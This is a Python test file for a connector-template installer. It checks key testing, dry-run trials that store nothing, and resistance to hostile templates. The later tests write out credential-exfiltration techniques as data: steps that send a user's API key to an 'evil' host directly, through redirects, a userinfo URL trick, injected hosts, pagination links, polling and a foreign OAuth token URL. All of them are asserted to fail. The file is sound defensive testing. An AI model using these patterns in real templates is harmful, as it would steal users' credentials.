"""Before an install: keys tested and the whole tried on a contact, with nothing kept; and what a
hostile template can do with the key of somebody who installs it."""

import json

import psycopg
import pytest
from psycopg.types.json import Jsonb

from app.main import build
from app.services.problems import BadInput, Conflict, NotAllowed
from app.services.testing import Trial
from app.settings import Settings
from db.logins import Logins
from engine.effects.master_key import MasterKey
from tests.app.running.test_templates import KEY, SLOT, add_template
from tests.providers.service import Service
from tests.providers.tokens import CLIENT

TYPED = {"people": {"api_key": KEY}}
ADA = Trial(contact={"email": "ada@example.com"})


@pytest.fixture
def evil():
    """Another host, as reachable as the one the key is for."""
    made = Service().start()
    yield made
    made.stop()


@pytest.fixture
async def console(owner_url, console_url, service, evil):
    settings = Settings(allow_private=f"{service.host},{evil.host}")
    logins = Logins(owner_url, console_url)
    made = build(settings, logins, MasterKey(bytes(range(32))), with_pages=False)
    await made.start(with_worker=True)
    yield made
    await made.stop()


@pytest.fixture
def template(owner_url, service) -> str:
    test = {"method": "GET", "url": f"{service.url}/locked/header"}
    slot = {**SLOT, "allowed_hosts": [service.host], "test": test}
    return add_template(
        owner_url,
        service,
        "Find people",
        slots=Jsonb([slot]),
        field_mappings=Jsonb([{"field": "city", "value": "Oslo"}]),
    )


def kept(owner_url: str) -> dict[str, int]:
    tables = (
        "connectors", "workspace_api_credentials", "template_installs", "credential_tokens",
        "connector_steps_cache", "connector_executions", "contact_field_writes", "service_pauses",
    )  # fmt: skip
    with psycopg.connect(owner_url) as owner:
        counts = {one: owner.execute(f"select count(*) from {one}").fetchone()[0] for one in tables}
    return {one: count for one, count in counts.items() if count}


async def test_a_key_is_tested_before_it_is_kept(console, acme, template, owner_url):
    installing = console.services.installing
    looked = await installing.look(acme.admin, template)
    slot = looked.slots[0].slot
    good = await installing.test_key(acme.admin, slot, {"api_key": KEY})
    bad = await installing.test_key(acme.admin, slot, {"api_key": "not-the-key-at-all"})
    assert (good.status, bad.status) == ("success", "failed")
    assert KEY not in str(good)
    assert kept(owner_url) == {}
    with pytest.raises(BadInput):
        await installing.test_key(acme.admin, slot, {"api_key": ""})
    with pytest.raises(NotAllowed):
        await installing.test_key(acme.editor, slot, {"api_key": KEY})


async def test_the_whole_is_tried_on_a_contact_before_anything_is_kept(
    console, acme, template, owner_url
):
    installing = console.services.installing
    looked = await installing.look(acme.admin, template)
    tried = await installing.try_on(acme.admin, looked, TYPED, ADA)
    assert (tried.status, tried.outcome) == ("success", "found")
    assert [(one["field"], one["before"], one["after"]) for one in tried.would_write] == [
        ("city", None, "Oslo")
    ]
    assert kept(owner_url) == {}


async def test_a_login_for_a_try_leaves_no_token_behind(
    console, acme, owner_url, service, template
):
    slot = {
        **SLOT,
        "auth": {
            "type": "oauth2_client_credentials",
            "token_url": f"{service.url}/oauth/token",
        },
        "fields": [
            {"name": "client_id", "title": "Client", "secret": False},
            {"name": "client_secret", "title": "Secret"},
        ],
        "allowed_hosts": [service.host],
        "test": {"method": "GET", "url": f"{service.url}/locked/oauth"},
    }
    typed = dict(zip(("client_id", "client_secret"), CLIENT, strict=True))
    tested = await console.services.installing.test_key(acme.admin, slot, typed)
    assert tested.status == "success", tested.error_message
    assert kept(owner_url) == {}


async def test_what_was_looked_at_is_what_is_tried(console, acme, template, owner_url, service):
    looked = await console.services.installing.look(acme.admin, template)
    with psycopg.connect(owner_url) as owner:
        owner.execute("update connector_templates set field_mappings = '[]'")
    with pytest.raises(Conflict):
        await console.services.installing.try_on(acme.admin, looked, TYPED, ADA)
    assert service.calls() == []


async def test_a_key_that_is_there_is_used_and_its_limits_are_said(
    console, api, acme, template, service, owner_url
):
    key = {
        "service_name": "people",
        "auth": SLOT["auth"],
        "credentials": {"api_key": KEY},
        "allowed_hosts": ["api.people.example"],
    }
    await api.post("/workspace/credentials", json=key)
    looked = await console.services.installing.look(acme.editor, template)
    assert looked.slots[0].kept_from == (service.host,)
    tried = await console.services.installing.try_on(acme.editor, looked, {}, ADA)
    assert tried.status == "failed"
    assert service.calls() == []


# -- a template whose author wants the key --


def hostile(owner_url, service, evil, *, hosts, steps) -> str:
    template = add_template(
        owner_url, service, "Free leads", slots=Jsonb([{**SLOT, "allowed_hosts": hosts}])
    )
    with psycopg.connect(owner_url) as owner:
        owner.execute(
            "update connector_templates set config = %s where id = %s",
            [Jsonb({"steps": steps}), template],
        )
    return template


def call(id_: str, url: str, **more) -> dict:
    credential = more.pop("credential", None)
    request = {"method": "POST", "url": url, **more.pop("request", {})}
    return {"id": id_, "kind": "http", "credential": credential, "request": request, **more}


async def run(api, template, ada, given) -> dict:
    answer = await api.post(f"/connector-templates/{template}/install", json={"credentials": given})
    assert answer.status_code == 201, answer.text
    address = f"/connectors/{answer.json()['id']}/execute"
    ran = await api.post(address, json={"contact_id": ada}, headers={"Prefer": "wait=30"})
    return ran.json()


def leaked(evil) -> bool:
    return any(KEY in str(vars(one)) for one in evil.calls())


async def test_a_hostile_template_cannot_send_the_key_where_nobody_agreed_to(
    api, owner_url, service, evil, ada
):
    straight = call("steal", f"{evil.url}/echo", credential="people")
    template = hostile(owner_url, service, evil, hosts=[service.host], steps=[straight])
    ran = await run(api, template, ada, TYPED)
    assert ran["status"] == "failed"
    assert evil.calls() == []


async def test_a_hostile_template_cannot_pass_on_a_key_that_a_service_repeats(
    api, owner_url, service, evil, ada
):
    first = call(
        "first",
        f"{service.url}/echo",
        credential="people",
        extract={"all": "$", "key": "$.headers['x-api-key']"},
    )
    second = call(
        "second",
        f"{evil.url}/echo?k={{{{ steps.first.key }}}}",
        request={"body": {"json": {"all": "{{ steps.first.all }}", "b": "{{ steps.first.body }}"}}},
    )
    template = hostile(owner_url, service, evil, hosts=[service.host], steps=[first, second])
    await run(api, template, ada, TYPED)
    assert service.calls("/echo")[0].headers["x-api-key"] == KEY
    assert len(evil.calls()) == 1
    assert not leaked(evil)


async def test_a_hostile_template_cannot_follow_a_redirect_with_the_key(
    api, owner_url, service, evil, ada
):
    away = call("away", f"{service.url}/redirect", credential="people")
    away["request"] |= {"method": "GET", "query": {"to": f"{evil.url}/echo"}}
    template = hostile(owner_url, service, evil, hosts=[service.host], steps=[away])
    await run(api, template, ada, TYPED)
    assert service.calls("/redirect")[0].headers["x-api-key"] == KEY
    assert not leaked(evil)


def sly_steps(service, evil) -> dict[str, list[dict]]:
    """Ways to be asked once more, at an address that only an answer or a setting names."""
    paged = {"items": "$.query.*", "max_pages": 3}
    away, there = f"{evil.url}/echo", f"{service.url}/echo"

    def asks(query: dict[str, str] | None = None, url: str = there, **more) -> dict:
        request = {"method": "GET", "query": query or {}}
        return call("ask", url, credential="people", request=request, **more)

    told = call("told", there, request={"method": "GET", "query": {"to": evil.host}})
    again = {"method": "GET", "url": away}
    until = {"left": "{{ response.status }}", "op": "equals", "right": 1}
    setting = "http://{{ credential.settings.place }}/echo"
    return {
        "a host out of an answer": [told, asks(url="http://{{ steps.told.body.query.to }}/echo")],
        "a host out of the input": [asks(url="http://{{ input.host }}/echo")],
        "a host out of a setting": [asks(url=setting)],
        "a user in the address": [asks(url=f"http://{service.host}@{evil.host}/echo")],
        "the next page": [
            asks({"to": away}, paginate={"kind": "next_url", "next": "$.query.to", **paged})
        ],
        "a link to the next page": [
            asks(
                {"answer_headers": f"Link:<{away}>; rel=next"},
                paginate={"kind": "link_header", **paged},
            )
        ],
        "looking again": [
            asks(poll={"until": until, "every_ms": 10, "max_wait_ms": 300, "request": again})
        ],
    }


AUTHS = {
    "header": SLOT["auth"],
    "query": {"type": "query", "name": "k"},
    "bearer": {"type": "bearer"},
    "basic": {"type": "basic", "username": "api_key", "password": "x"},
    "token": {
        "type": "oauth2_client_credentials",
        "token_url": "HERE/oauth/token",
        "settings_from_token": {"place": "$.place"},
    },
}


@pytest.mark.parametrize("kind", AUTHS)
async def test_no_way_of_asking_again_takes_the_key_along(api, owner_url, service, evil, ada, kind):
    auth = json.loads(json.dumps(AUTHS[kind]).replace("HERE", service.url))
    secrets = {"api_key": KEY}
    if kind == "token":
        secrets = dict(zip(("client_id", "client_secret"), CLIENT, strict=True))
        service.tokens.also = {"place": evil.host}
    fields = [*({"name": name} for name in secrets), {"name": "place", "secret": False}]
    slot = {**SLOT, "auth": auth, "fields": fields, "allowed_hosts": [service.host]}
    given, ends = {"people": {**secrets, "place": evil.host}}, {}
    for way, steps in sly_steps(service, evil).items():
        template = add_template(owner_url, service, way, slots=Jsonb([slot]))
        with psycopg.connect(owner_url) as owner:
            owner.execute(
                "update connector_templates set config = %s where id = %s",
                [Jsonb({"steps": steps}), template],
            )
        install = f"/connector-templates/{template}/install"
        made = await api.post(install, json={"credentials": given})
        if made.status_code != 201:
            ends[way] = made.status_code
            continue
        given = {}
        ran = await api.post(
            f"/connectors/{made.json()['id']}/execute",
            json={"contact_id": ada, "input": {"host": evil.host}},
            headers={"Prefer": "wait=30"},
        )
        ends[way] = ran.json()["status"]
    assert set(ends.values()) == {"failed", 422}
    assert service.calls("/echo"), "the key went where it may go"
    told = [str(vars(one)) for one in evil.calls()]
    secret = [*secrets.values()][-1]
    assert not [one for one in told if secret in one or "authorization" in one.lower()]
    assert evil.calls("/oauth") == []


async def test_a_login_somewhere_else_is_refused_before_anything_is_kept(
    api, owner_url, service, evil
):
    auth = {"type": "oauth2_client_credentials", "token_url": f"{evil.url}/oauth/token"}
    slot = {
        **SLOT,
        "auth": auth,
        "fields": [{"name": "client_id"}, {"name": "client_secret"}],
        "allowed_hosts": [service.host],
    }
    template = add_template(owner_url, service, "Free leads", slots=Jsonb([slot]))
    client = dict(zip(("client_id", "client_secret"), CLIENT, strict=True))
    body = {"credentials": {"people": client}}
    refused = await api.post(f"/connector-templates/{template}/install", json=body)
    assert refused.status_code == 422
    assert (kept(owner_url), evil.calls()) == ({}, [])


async def test_a_key_that_was_there_before_goes_nowhere_a_template_names(
    api, owner_url, service, evil, ada
):
    """The victim has the key already; the template's own list of hosts does not widen it."""
    key = {
        "service_name": "people",
        "auth": SLOT["auth"],
        "credentials": {"api_key": KEY},
        "allowed_hosts": [service.host],
    }
    await api.post("/workspace/credentials", json=key)
    straight = call("steal", f"{evil.url}/echo", credential="people")
    hosts = [service.host, evil.host]
    template = hostile(owner_url, service, evil, hosts=hosts, steps=[straight])
    ran = await run(api, template, ada, {})
    assert ran["status"] == "failed"
    assert evil.calls() == []
    (kept_key,) = (await api.get("/workspace/credentials")).json()["items"]
    assert kept_key["allowed_hosts"] == [service.host]


async def test_a_newer_version_cannot_take_the_key_along_unasked(
    api, owner_url, service, evil, ada
):
    fine = call("find", f"{service.url}/echo", credential="people")
    template = hostile(owner_url, service, evil, hosts=[service.host], steps=[fine])
    ran = await run(api, template, ada, TYPED)
    with psycopg.connect(owner_url) as owner:
        slots = [{**SLOT, "allowed_hosts": [service.host, evil.host]}]
        steps = [call("find", f"{evil.url}/echo", credential="people")]
        owner.execute(
            "update connector_templates set config = %s, slots = %s",
            [Jsonb({"steps": steps}), Jsonb(slots)],
        )
    address = f"/connectors/{ran['connector_id']}"
    seen = (await api.get(f"{address}/update")).json()
    body = {"version": 1, "template_version": seen["template_version"]}
    assert (await api.post(f"{address}/update", json=body)).status_code == 409
    for _ in range(2):
        await api.post(
            f"{address}/execute", json={"contact_id": ada}, headers={"Prefer": "wait=30"}
        )
    assert evil.calls() == []
